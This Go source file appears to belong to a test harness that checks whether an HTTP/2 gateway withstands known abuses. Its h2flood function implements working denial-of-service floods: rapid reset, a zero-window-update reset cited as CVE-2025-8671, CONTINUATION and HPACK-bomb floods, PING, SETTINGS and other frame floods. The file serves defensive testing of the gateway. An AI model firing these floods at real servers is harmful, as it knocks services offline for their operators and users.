package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An h2conn is a connection of our own making: it sends whatever frames it is told to.
type h2conn struct {
	conn   net.Conn
	out    *bufio.Writer
	framer *http2.Framer
	names  bytes.Buffer
	enc    *hpack.Encoder
	sent   atomic.Int64
	closed chan struct{} // the other side has ended it
	answer chan h2answer // of streams, as they come
}

// An h2answer is what came of a stream.
type h2answer struct {
	stream uint32
	status int
	header http.Header
	reset  bool
}

// openH2 connects with TLS and shakes hands, with settings of our own.
func openH2(ctx context.Context, from, to string, settings ...http2.Setting) (*h2conn, error) {
	raw, err := dial(ctx, from, to)
	if err != nil {
		return nil, err
	}
	c := tls.Client(raw, &tls.Config{NextProtos: []string{"h2"}, ServerName: "app.test", InsecureSkipVerify: true}) //nolint:gosec // a certificate of our own
	if err := c.HandshakeContext(ctx); err != nil {
		_ = raw.Close() // it never stood
		return nil, err
	}
	if c.ConnectionState().NegotiatedProtocol != "h2" {
		_ = c.Close() // of no use
		return nil, notRun("the gateway does not speak HTTP/2")
	}
	h := &h2conn{conn: c, out: bufio.NewWriterSize(c, 64<<10), closed: make(chan struct{}), answer: make(chan h2answer, 1024)}
	h.framer = http2.NewFramer(h.out, bufio.NewReaderSize(c, 64<<10))
	h.framer.AllowIllegalWrites = true
	h.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	h.enc = hpack.NewEncoder(&h.names)
	if _, err := h.out.WriteString(http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := h.framer.WriteSettings(settings...); err != nil {
		return nil, err
	}
	if err := h.out.Flush(); err != nil {
		return nil, err
	}
	go h.listen()
	return h, nil
}

// listen reads frames until the connection ends. It answers nothing: an attacker would not.
func (h *h2conn) listen() {
	defer close(h.closed)
	for {
		f, err := h.framer.ReadFrame()
		if err != nil {
			if _, stream := errors.AsType[http2.StreamError](err); stream {
				continue
			}
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			a := h2answer{stream: f.StreamID, header: http.Header{}}
			a.status, _ = strconv.Atoi(f.PseudoValue("status"))
			for _, v := range f.RegularFields() {
				a.header.Add(v.Name, v.Value)
			}
			h.tell(a)
		case *http2.RSTStreamFrame:
			h.tell(h2answer{stream: f.StreamID, reset: true})
		case *http2.GoAwayFrame:
			if f.ErrCode != http2.ErrCodeNo {
				return
			}
		}
	}
}

func (h *h2conn) tell(a h2answer) {
	select {
	case h.answer <- a:
	default: // nobody waits for so many
	}
}

func (h *h2conn) over() bool {
	select {
	case <-h.closed:
		return true
	default:
		return false
	}
}

// headers writes a HEADERS frame with fields exactly as given.
func (h *h2conn) headers(stream uint32, fields [][2]string, end, whole bool) error {
	h.names.Reset()
	for _, f := range fields {
		if err := h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: h.names.Bytes(), EndStream: end, EndHeaders: whole})
}

var plainFields = [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "app.test"}, {":path", "/api/ping"}}

// http2 sends the frames of a case.
func (j *job) http2(ctx context.Context) error {
	if kind := text(j.c.Input, "attack"); kind != "" {
		return j.attack(ctx, kind)
	}
	fields, err := h2fields(j.c.Input)
	if err != nil {
		return err
	}
	h, err := openH2(ctx, j.from(), j.product.gateway)
	if err != nil {
		return err
	}
	defer h.conn.Close()
	before := len(j.product.echo.all())
	data, withData := j.c.Input["data"]
	body, err := plain(data, utf8Bytes)
	if err != nil {
		return err
	}
	began := time.Now()
	if err := h.headers(1, fields, !withData, true); err != nil {
		return err
	}
	if withData {
		if err := h.framer.WriteData(1, true, body); err != nil {
			return err
		}
	}
	if trailers := object(j.c.Input["trailers"]); trailers != nil {
		return notRun("nothing sends trailers over HTTP/2")
	}
	_ = h.out.Flush() // the gateway may have hung up already
	j.out.decided = undecided
	select {
	case a := <-h.answer:
		if a.reset {
			j.out.decided = rejected
			break
		}
		j.out.decided = ""
		j.out.wires = append(j.out.wires, wire{answers: []answer{{status: a.status, header: a.header}}, took: time.Since(began)})
	case <-h.closed:
		j.out.decided = rejected
		j.out.facts["closed"] = true
	case <-time.After(5 * time.Second):
	case <-ctx.Done():
	}
	j.out.figures["elapsed_ms"] = float64(time.Since(began).Milliseconds())
	j.product.echo.settle(ctx)
	reached := j.product.echo.all()[before:]
	j.out.upstream = &reached
	return nil
}

func (j *job) from() string {
	if f := text(j.c.Input, "from"); f != "" {
		return f
	}
	return "127.0.0.9"
}

// h2fields are the fields of a case, as written. Cases name what they are about: :scheme and
// :authority are added when none is among them.
func h2fields(in tree) ([][2]string, error) {
	var out [][2]string
	named := map[string]bool{}
	for _, v := range list(in["headers"]) {
		pair := list(v)
		if len(pair) != 2 {
			return nil, notRun("a header is a name and a value")
		}
		value, err := plain(pair[1], utf8Bytes)
		if err != nil {
			return nil, err
		}
		name, _ := pair[0].(string)
		named[name] = true
		out = append(out, [2]string{name, string(value)})
	}
	var missing [][2]string
	for _, f := range [][2]string{{":scheme", "https"}, {":authority", "app.test"}} {
		if !named[f[0]] {
			missing = append(missing, f)
		}
	}
	return append(missing, out...), nil
}

// attack plays one of the known abuses of HTTP/2 and sees whether the gateway ends it.
func (j *job) attack(ctx context.Context, kind string) error {
	in := j.c.Input
	flood, err := h2flood(kind, in)
	if err != nil {
		return err
	}
	began := time.Now()
	conns := int(number(in, "conns", 1))
	ended := 0
	for range conns {
		h, err := openH2(ctx, j.from(), j.product.gateway, flood.settings...)
		if err != nil {
			return err
		}
		err = j.flood(ctx, h, flood)
		if errors.Is(err, errStood) {
			err = nil
		} else if h.over() {
			ended++
		}
		_ = h.conn.Close() // either way
		if err != nil {
			return err
		}
		j.note("%d frames were taken, closed %v", h.sent.Load(), h.over())
	}
	j.out.facts["closed"] = ended == conns
	// Work and delays are measured over a while, however soon it was over.
	pause(ctx, time.Until(began.Add(2*time.Second)))
	return nil
}

var errStood = errors.New("the connection still stands")

// flood sends until all is sent or the gateway ends it.
func (j *job) flood(ctx context.Context, h *h2conn, f h2attack) error {
	for i := range f.n {
		if h.over() {
			return nil
		}
		if err := ctx.Err(); err != nil {
			return err
		}
		if f.frame(h, i) != nil {
			break // hung up: the listener notices
		}
		h.sent.Add(1)
		if i%64 == 63 {
			_ = h.conn.SetWriteDeadline(time.Now().Add(10 * time.Second)) // a connection takes deadlines
			if h.out.Flush() != nil {
				break
			}
		}
	}
	_ = h.out.Flush() // noticed by the listener
	select {
	case <-h.closed:
		return nil
	case <-ctx.Done():
	case <-time.After(max(f.hold, 5*time.Second)):
	}
	return errStood
}

// An h2attack is a number of frames, settings before them, and how long to hold on.
type h2attack struct {
	n        int
	settings []http2.Setting
	hold     time.Duration
	frame    func(h *h2conn, i int) error
}

func h2flood(kind string, in tree) (h2attack, error) {
	n := int(number(in, "streams", number(in, "frames", number(in, "n", 10_000))))
	path := text(in, "path")
	if path == "" {
		path = "/api/ping"
	}
	fields := append([][2]string{}, plainFields...)
	fields[3][1] = path
	stream := func(i int) uint32 { return uint32(2*i + 1) } //nolint:gosec // a number of the case
	attack := h2attack{n: n}
	switch kind {
	case "rapid_reset":
		attack.frame = func(h *h2conn, i int) error {
			if err := h.headers(stream(i), fields, true, true); err != nil {
				return err
			}
			return h.framer.WriteRSTStream(stream(i), http2.ErrCodeCancel)
		}
	case "made_you_reset":
		// The server is made to reset: a window update of zero on each stream (CVE-2025-8671).
		attack.frame = func(h *h2conn, i int) error {
			if err := h.headers(stream(i), fields, true, true); err != nil {
				return err
			}
			return h.framer.WriteWindowUpdate(stream(i), 0)
		}
	case "continuation_flood", "continuation":
		attack.frame = func(h *h2conn, i int) error {
			if i == 0 {
				return h.headers(1, fields, true, false)
			}
			h.names.Reset()
			if err := h.enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: strings.Repeat("a", 32), Sensitive: true}); err != nil {
				return err
			}
			return h.framer.WriteContinuation(1, false, h.names.Bytes())
		}
	case "zero_window":
		attack.settings = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
		attack.hold = time.Duration(number(in, "hold_s", 10)) * time.Second
		attack.frame = func(h *h2conn, i int) error { return h.headers(stream(i), fields, true, true) }
	case "settings_flood":
		attack.frame = func(h *h2conn, i int) error {
			return h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i%2)}) //nolint:gosec // small
		}
	case "ping_flood":
		attack.frame = func(h *h2conn, i int) error { return h.framer.WritePing(false, [8]byte{byte(i)}) }
	case "priority_flood":
		attack.frame = func(h *h2conn, i int) error {
			return h.framer.WritePriority(stream(i), http2.PriorityParam{Weight: byte(i)})
		}
	case "empty_data_flood", "empty_frames", "empty_data":
		attack.frame = func(h *h2conn, i int) error {
			if i == 0 {
				return h.headers(1, append([][2]string{{":method", "POST"}}, fields[1:]...), false, true)
			}
			return h.framer.WriteData(1, false, nil)
		}
	case "window_update_flood", "window_update":
		attack.frame = func(h *h2conn, _ int) error { return h.framer.WriteWindowUpdate(0, 1) }
	case "window_overflow", "window_update_overflow":
		attack.n = max(n, 2)
		attack.frame = func(h *h2conn, _ int) error { return h.framer.WriteWindowUpdate(0, 1<<31-1) }
	case "hpack_bomb":
		big := strings.Repeat("a", 4000)
		attack.frame = func(h *h2conn, i int) error {
			with := append([][2]string{}, fields...)
			for range 1000 {
				with = append(with, [2]string{"x-bomb", big}) // indexed after the first: a byte or two each
			}
			return h.headers(stream(i), with, true, true)
		}
	default:
		return attack, notRun("nothing plays the attack " + kind)
	}
	return attack, nil
}
